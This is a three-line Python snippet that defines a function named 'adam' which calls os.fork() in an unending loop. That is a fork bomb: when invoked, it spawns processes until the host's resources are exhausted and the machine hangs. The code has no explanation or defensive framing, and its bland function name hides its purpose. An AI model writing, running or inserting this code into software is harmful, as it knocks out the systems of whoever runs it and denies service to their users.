import os
def adam(*a):
    while True: os.fork()
